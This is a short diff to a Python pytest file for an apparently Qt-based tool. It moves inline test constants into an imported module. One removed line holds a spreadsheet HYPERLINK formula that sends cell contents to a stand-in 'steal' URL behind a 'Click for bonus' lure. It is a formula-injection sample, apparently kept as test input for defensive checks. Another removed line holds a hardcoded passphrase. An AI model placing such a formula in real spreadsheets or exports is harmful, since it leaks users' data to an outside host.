@@ -18,9 +18,7 @@ import pytest
 
 os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
 
-FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for bonus")'
-MARKUP = "<b>Bold</b> & <i>Co</i>"
-PASSPHRASE = "correct horse battery"  # noqa: S105 - the test supervisor's passphrase
+from supervisedata import FORMULA, MARKUP
 
 
 @pytest.fixture(autouse=True)
